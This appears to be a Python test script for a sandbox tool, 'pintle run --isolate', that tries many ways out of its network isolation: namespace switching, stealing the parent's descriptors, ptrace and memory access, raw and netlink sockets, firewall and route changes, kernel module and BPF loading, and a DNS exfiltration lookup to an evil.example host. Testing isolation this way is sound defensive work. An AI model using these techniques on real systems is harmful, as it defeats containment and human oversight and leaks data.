# SPDX-License-Identifier: Apache-2.0
"""Attempts to leave the network of `pintle run --isolate` without Pintle. Each ends with an exception, or has led out.

usage: escape.py --list
       escape.py NAME PORT ABSTRACT   (PORT: of a server on the machine's loopback; ABSTRACT: of a Unix socket of the machine)
"""

import ctypes
import fcntl
import os
import platform
import socket
import struct
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
arm = platform.machine() == "aarch64"
SETNS, UNSHARE, BPF, MODULE = (268, 97, 280, 273) if arm else (308, 272, 321, 313)
PIDFD_OPEN, PIDFD_GETFD, IO_URING_SETUP = 434, 438, 425
NEW_NETWORK, NEW_USERS = 0x40000000, 0x10000000
attempts = {}


def attempt(function):
    attempts[function.__name__] = function
    return function


def call(number, *arguments):
    # Numbers are those of the kernel's width.
    wide = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"call {number}")
    return result


def reach(host="127.0.0.1"):
    socket.create_connection((host, outside), 5)


def enter(path, kind=0):
    call(SETNS, os.open(path, os.O_RDONLY), kind)
    reach()


def netlink(protocol, kind, body, flags):
    channel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
    channel.sendto(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body, (0, 0))
    code = struct.unpack_from("=i", channel.recv(65536), 16)[0]
    if code < 0:
        raise OSError(-code, "netlink")


def answered(channel, address):
    channel.settimeout(5)
    channel.connect(address)
    channel.send(b"\x08\0\0\0\0\1\0\1")
    channel.recv(99)


# ---- Where servers are.


@attempt
def loopback():
    reach()


@attempt
def loopback_6():
    reach("::1")


@attempt
def unspecified_address():
    reach("0.0.0.0")


@attempt
def own_address():
    reach("198.18.0.1")


@attempt
def listener_of_captures():
    for host in ("127.0.0.1", "198.18.0.1"):
        channel = socket.create_connection((host, 64101), 5)
        channel.sendall(f"GET / HTTP/1.0\r\nHost: 127.0.0.1:{outside}\r\n\r\n".encode())
        if channel.recv(99):
            return
    raise ConnectionRefusedError("there is no answer")


@attempt
def name_without_a_question():
    channel = socket.create_connection(("198.18.99.99", outside), 5)
    channel.sendall(b"GET / HTTP/1.0\r\n\r\n")
    if not channel.recv(99):
        raise ConnectionRefusedError("there is no answer")


@attempt
def source_route():
    channel = socket.socket()
    channel.setsockopt(socket.IPPROTO_IP, 4, bytes([131, 7, 4, 127, 0, 0, 1, 0]))
    channel.settimeout(5)
    channel.connect(("127.0.0.1", outside))


@attempt
def abstract_socket():
    socket.socket(socket.AF_UNIX).connect(b"\0" + abstract.encode())


# ---- Other namespaces.


@attempt
def network_of_process_1():
    enter("/proc/1/ns/net")


@attempt
def network_of_pintle():
    enter(f"/proc/{parent}/ns/net")


@attempt
def users_of_pintle():
    enter(f"/proc/{parent}/ns/user", NEW_USERS)


@attempt
def network_by_process_descriptor():
    call(SETNS, call(PIDFD_OPEN, parent, 0), NEW_NETWORK)
    reach()


@attempt
def network_from_new_users():
    call(UNSHARE, NEW_USERS)
    enter(f"/proc/{parent}/ns/net")


@attempt
def new_network():
    call(UNSHARE, NEW_USERS | NEW_NETWORK)
    reach()


# ---- Descriptors and memory.


@attempt
def taken_descriptor():
    call(PIDFD_GETFD, call(PIDFD_OPEN, parent, 0), 3, 0)


@attempt
def opened_descriptor():
    for number in range(3, 12):
        os.open(f"/proc/{parent}/fd/{number}", os.O_RDWR)


@attempt
def inherited_descriptor():
    for number in range(3, 256):
        try:
            kind = os.readlink(f"/proc/self/fd/{number}")
        except FileNotFoundError:
            continue
        if kind.startswith("socket:"):
            return
    raise FileNotFoundError("there is no socket")


@attempt
def traced_pintle():
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, parent, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")


@attempt
def read_memory():
    open(f"/proc/{parent}/mem", "rb")


@attempt
def written_memory():
    space = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(space), 8)
    call(271 if arm else 311, parent, vector, 1, vector, 1, 0)


# ---- Sockets and protocols.


@attempt
def packet_socket():
    socket.socket(17, socket.SOCK_RAW, 0x300)


@attempt
def raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)


@attempt
def raw_socket_6():
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)


@attempt
def raw_socket_of_new_users():
    call(UNSHARE, NEW_USERS)
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)


@attempt
def socket_of_the_host():
    socket.socket(40, socket.SOCK_STREAM).connect((2, 22))


@attempt
def bluetooth_socket():
    socket.socket(31, socket.SOCK_RAW, 1)


@attempt
def sctp():
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("192.0.2.1", 80))


@attempt
def dccp():
    socket.socket(socket.AF_INET, 6, 33).connect(("192.0.2.1", 80))


@attempt
def udp():
    answered(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ("192.0.2.1", 443))


@attempt
def udp_6():
    answered(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM), ("2001:db8::1", 443))


@attempt
def udp_lite():
    answered(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136), ("192.0.2.1", 443))


@attempt
def echo_request():
    answered(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), ("192.0.2.1", 0))


@attempt
def ring_of_calls():
    call(IO_URING_SETUP, 8, ctypes.create_string_buffer(120))


@attempt
def name_as_a_channel():
    socket.getaddrinfo("c2VjcmV0.evil.example", 80)


# ---- The network itself.


@attempt
def new_link():
    netlink(0, 16, struct.pack("=BxHiII", 0, 0, 0, 1, 1) + struct.pack("=HH", 8, 3) + b"out\0", 0x605)


@attempt
def new_address():
    netlink(0, 20, struct.pack("=BBBBI4x", 2, 32, 0, 0, 1)[:8] + struct.pack("=HH4s", 8, 2, bytes([10, 0, 0, 9])), 0x605)


@attempt
def route_away():
    netlink(0, 25, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 0, 0, 0, 0), 0x5)


@attempt
def rules_away():
    batch = struct.pack("=BBH", 0, 0, socket.htons(10))
    table = struct.pack("=BBH", 1, 0, 0) + struct.pack("=HH", 11, 1) + b"pintle\0\0"
    parts = ((16, 0x1, batch), (0xA02, 0x5, table), (17, 0x1, batch))
    channel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    channel.settimeout(5)
    channel.send(b"".join(struct.pack("=IHHII", 16 + len(body), kind, flags, number, 0) + body
                          for number, (kind, flags, body) in enumerate(parts)))
    code = struct.unpack_from("=i", channel.recv(65536), 16)[0]
    if code < 0:
        raise OSError(-code, "netlink")


@attempt
def setting_of_the_network():
    open("/proc/sys/net/ipv4/conf/all/route_localnet", "w").write("1")


@attempt
def tunnel_device():
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"tun9", 1))


# ---- Power.


@attempt
def capabilities():
    line = next(each for each in open("/proc/self/status") if each.startswith("CapEff"))
    if int(line.split()[1], 16) == 0:
        raise PermissionError("there are none")


@attempt
def program_with_privileges():
    subprocess.run(["su", "-c", "true"], check=True, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@attempt
def program_in_the_kernel():
    call(BPF, 5, ctypes.create_string_buffer(120), 120)


@attempt
def module_of_the_kernel():
    call(MODULE, os.open("/proc/self/exe", os.O_RDONLY), b"", 0)


if sys.argv[1] == "--list":
    sys.stdout.write("\n".join(attempts))
else:
    outside, abstract = int(sys.argv[2]), sys.argv[3]
    attempts[sys.argv[1]]()
    sys.stdout.write(f"{sys.argv[1]} has led out\n")
